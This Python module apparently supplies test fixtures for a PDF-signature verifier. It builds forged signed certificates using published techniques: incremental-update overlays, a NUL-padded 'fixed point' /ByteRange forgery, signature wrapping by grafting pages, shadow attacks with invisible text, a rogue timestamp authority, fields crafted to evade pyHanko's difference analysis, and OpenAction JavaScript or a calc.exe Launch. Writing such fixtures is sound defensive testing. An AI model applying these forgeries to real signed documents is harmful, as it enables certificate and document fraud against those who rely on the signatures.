"""Forgeries of signed certificates, built the way the PDF-signature literature describes them
(Mladenov et al., CCS 2019: incremental saving, universal signature forgery, signature wrapping;
Mainka et al., NDSS 2021: shadow attacks), for tests/test_verify_attacks.py.

Overlays are drawn with pyHanko's own stamping (a real incremental update, as an attacker with
a PDF library would write it); `append_update` writes an update by hand where an attack needs
bytes no library writes (a restated signature dictionary with a literal /Contents).
"""

from __future__ import annotations

import io
import re
from typing import Any

import pypdf


def stamp_text(pdf: bytes, text: str, *, x: int = 40, y: int = 700) -> bytes:
    """`pdf` with a boxed `text` drawn on page 1, appended as an incremental update."""
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.stamp import TextStamp, TextStampStyle

    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    style = TextStampStyle(stamp_text=text, background_opacity=1.0)
    TextStamp(writer, style).apply(0, x, y)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def stamp_image(pdf: bytes, *, x: int = 40, y: int = 600, size: int = 200) -> bytes:
    """`pdf` with an opaque image (a grey square, like a picture of other text) drawn over page
    1, appended as an incremental update: the text underneath is still there, but unseen."""
    from PIL import Image
    from pyhanko.pdf_utils.images import PdfImage
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.pdf_utils.layout import BoxConstraints
    from pyhanko.stamp import StaticStampStyle

    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    picture = Image.new("RGB", (size, size), (90, 90, 90))
    style = StaticStampStyle(background=PdfImage(picture), background_opacity=1.0,
                             border_width=0)
    style.create_stamp(writer, box=BoxConstraints(width=size, height=size),
                       text_params={}).apply(0, x, y)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def add_open_action(pdf: bytes, kind: str) -> bytes:
    """`pdf` with a document /OpenAction (JavaScript or Launch), as an incremental update."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    action = generic.DictionaryObject({generic.NameObject("/Type"): generic.NameObject("/Action")})
    if kind == "JavaScript":
        action[generic.NameObject("/S")] = generic.NameObject("/JavaScript")
        action[generic.NameObject("/JS")] = generic.TextStringObject("app.alert('PLATINUM')")
    else:
        action[generic.NameObject("/S")] = generic.NameObject("/Launch")
        action[generic.NameObject("/F")] = generic.TextStringObject("calc.exe")
    writer.root[generic.NameObject("/OpenAction")] = writer.add_object(action)
    writer.update_root()
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _trailer(pdf: bytes) -> Any:
    return pypdf.PdfReader(io.BytesIO(pdf), strict=False).trailer


def append_update(pdf: bytes, objects: dict[int, bytes]) -> bytes:
    """Append an incremental update by hand: each object's body (bytes between `N 0 obj` and
    `endobj`) and an uncompressed cross-reference stream pointing to them, /Prev to the last."""
    trailer = _trailer(pdf)
    prev = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    size = int(trailer["/Size"])
    out = bytearray(pdf if pdf.endswith(b"\n") else pdf + b"\n")
    offsets: dict[int, int] = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    xref = max(size, max(objects) + 1)
    offsets[xref] = len(out)
    rows = b"".join(b"\x01" + offsets[n].to_bytes(8, "big") + b"\x00\x00" for n in sorted(offsets))
    index = " ".join(f"{n} 1" for n in sorted(offsets))
    ids = " ".join(f"<{bytes(getattr(part, 'original_bytes', part)).hex()}>"
                   for part in trailer["/ID"])
    root, info = trailer.raw_get("/Root"), trailer.raw_get("/Info")
    out += (f"{xref} 0 obj\n<< /Type /XRef /W [1 8 2] /Size {xref + 1} "
            f"/Root {root.idnum} 0 R /Info {info.idnum} 0 R /ID [{ids}] /Prev {prev} "
            f"/Index [{index}] /Length {len(rows)} >>\nstream\n").encode()
    out += rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[xref]
    return bytes(out)


def _literal(data: bytes) -> bytes:
    return data.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")


def fixed_point(signed: bytes, changed: bytes) -> bytes:
    """The "fixed point" forgery: `changed` (the signed file plus an update) with one more
    update restating the signature dictionary, /ByteRange unchanged, /Contents written as a
    literal string padded with NULs until a + c + 2·len(/Contents) + 2 equals the file's new
    size, which is all a size-only coverage check looks at."""
    match = re.search(rb"/ByteRange \[0 (\d+) (\d+) (\d+)\]", signed)
    assert match is not None
    a, b, c = (int(x) for x in match.groups())
    cms = bytes.fromhex(signed[a + 1:b - 1].decode()).rstrip(b"\x00")
    reader = pypdf.PdfReader(io.BytesIO(signed))
    field = reader.trailer["/Root"]["/AcroForm"]["/Fields"][0].get_object()
    sig_ref = field.raw_get("/V").idnum
    rest = re.search(rb"/Type /Sig.*?(?=\nendobj)", signed[b:], re.S)
    assert rest is not None
    tail = rest.group(0)

    def build(pad: int) -> bytes:
        body = (b"<<\n/Contents (" + _literal(cms + b"\x00" * pad) + b")\n/ByteRange [0 %d %d %d]\n"
                % (a, b, c) + tail + b"\n>>")
        return append_update(changed, {sig_ref: body})

    pad = 0
    for _ in range(8):
        forged = build(pad)
        # Each NUL adds one byte to the file and two to the equation's left side.
        off = len(forged) - (a + c + 2) - 2 * (len(cms) + pad)
        if off == 0:
            return forged
        pad = max(0, pad + off)
    raise AssertionError("no fixed point found")


def sign_again(pdf: bytes, p12: bytes, passphrase: bytes, *, name: str) -> bytes:
    """`pdf` with a second signature in a field of its own, as any PDF tool adds one."""
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign import signers

    signer = signers.SimpleSigner.load_pkcs12_data(p12, other_certs=(), passphrase=passphrase)
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    meta = signers.PdfSignatureMetadata(field_name="Countersignature", name=name)
    out = io.BytesIO()
    signers.PdfSigner(meta, signer=signer).sign_pdf(writer, output=out)
    return out.getvalue()


def graft(signed: bytes, forged: bytes) -> bytes:
    """Signature wrapping by grafting: every page and the attachment of `forged` (a certificate
    the attacker rendered himself, unsigned) imported into an update of the signed file whose
    root now shows them, while its /AcroForm still carries the lab's signature."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.pdf_utils.reader import PdfFileReader

    source = PdfFileReader(io.BytesIO(forged), strict=False)
    writer = IncrementalPdfFileWriter(io.BytesIO(signed), strict=False)
    for key in ("/Pages", "/Names", "/StructTreeRoot", "/Outlines", "/Metadata"):
        if key in source.root:
            imported = writer.import_object(source.root.raw_get(key))
            writer.root[generic.NameObject(key)] = imported
    writer.update_root()
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def add_field(pdf: bytes, kind: str) -> bytes:
    """`pdf` with a form field appended that pyHanko's difference analysis takes for an
    invisible signature field (so it passes as an "LTA update"): `js`, a zero-area signature
    widget whose page-open action runs JavaScript; `freetext`, a FreeText annotation whose
    five-number /Rect pyHanko cannot read (so it counts no area) but MuPDF draws, showing
    "GRADE: PLATINUM" over the page."""
    from pyhanko.pdf_utils import generic as g
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    page_ref = writer.root["/Pages"]["/Kids"][0]
    page = page_ref.get_object()
    field = g.DictionaryObject({
        g.NameObject("/FT"): g.NameObject("/Sig"), g.NameObject("/T"): g.TextStringObject("X"),
        g.NameObject("/Type"): g.NameObject("/Annot"), g.NameObject("/P"): page_ref})
    if kind == "js":
        field[g.NameObject("/Subtype")] = g.NameObject("/Widget")
        field[g.NameObject("/Rect")] = g.ArrayObject([g.FloatObject(0)] * 4)
        field[g.NameObject("/F")] = g.NumberObject(132)
        field[g.NameObject("/AA")] = g.DictionaryObject({g.NameObject("/PO"): g.DictionaryObject({
            g.NameObject("/S"): g.NameObject("/JavaScript"),
            g.NameObject("/JS"): g.TextStringObject("app.alert('PLATINUM')")})})
    else:
        field[g.NameObject("/Subtype")] = g.NameObject("/FreeText")
        field[g.NameObject("/Rect")] = g.ArrayObject(
            [g.NumberObject(n) for n in (60, 560, 540, 660, 0)])
        field[g.NameObject("/Contents")] = g.TextStringObject("GRADE: PLATINUM")
        field[g.NameObject("/DA")] = g.TextStringObject("/Helv 40 Tf 1 0 0 rg")
        field[g.NameObject("/F")] = g.NumberObject(4)
    ref = writer.add_object(field)
    annots = g.ArrayObject(list(page.get("/Annots") or []))
    annots.append(ref)
    page[g.NameObject("/Annots")] = annots
    writer.update_container(page)
    form = writer.root["/AcroForm"]
    form["/Fields"].append(ref)
    fields = form.raw_get("/Fields")
    if isinstance(fields, g.IndirectObject):
        writer.mark_update(fields)
    else:
        writer.update_container(form)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def set_title(pdf: bytes, title: str) -> bytes:
    """`pdf` with its document information's /Title changed (readers show it as the window's
    title: the certificates ask for DisplayDocTitle), as an incremental update."""
    from pyhanko.pdf_utils import generic as g
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    writer._info.get_object()[g.NameObject("/Title")] = g.TextStringObject(title)
    writer.mark_update(writer._info)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def rogue_timestamp(pdf: bytes) -> bytes:
    """`pdf` with a document timestamp from a self-made timestamp authority nobody trusts
    (pyHanko's in-process timestamper with a fresh self-signed TSA certificate)."""
    import datetime as dt

    from asn1crypto import keys
    from asn1crypto import x509 as asn1_x509
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import rsa
    from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign.signers import PdfTimeStamper
    from pyhanko.sign.timestamps import DummyTimeStamper

    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Rogue TSA")])
    now = dt.datetime.now(dt.UTC)
    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name)
            .public_key(key.public_key()).serial_number(99)
            .not_valid_before(now - dt.timedelta(days=1)).not_valid_after(now + dt.timedelta(days=900))
            .add_extension(x509.ExtendedKeyUsage([ExtendedKeyUsageOID.TIME_STAMPING]), critical=True)
            .sign(key, hashes.SHA256()))
    stamper = DummyTimeStamper(
        tsa_cert=asn1_x509.Certificate.load(cert.public_bytes(serialization.Encoding.DER)),
        tsa_key=keys.PrivateKeyInfo.load(key.private_bytes(
            serialization.Encoding.DER, serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption())))
    out = io.BytesIO()
    PdfTimeStamper(stamper).timestamp_pdf(IncrementalPdfFileWriter(io.BytesIO(pdf)), "sha256",
                                          output=out)
    return out.getvalue()


def hide_text(pdf: bytes) -> bytes:
    """`pdf` with every page's own text made invisible (text render mode 3, set before the
    page's content) and an opaque picture drawn where the grade is: the text a program extracts
    is unchanged, what a reader sees is not (a shadow attack, Mainka et al. 2021)."""
    from pyhanko.pdf_utils import generic as g
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    for ref in writer.root["/Pages"]["/Kids"]:
        page = ref.get_object()
        invisible = writer.add_object(g.StreamObject(stream_data=b"3 Tr\n"))
        contents = page.raw_get("/Contents")
        parts = list(contents) if isinstance(contents, g.ArrayObject) else [contents]
        page[g.NameObject("/Contents")] = g.ArrayObject([invisible, *parts])
        writer.update_container(page)
    out = io.BytesIO()
    writer.write(out)
    return stamp_image(out.getvalue())
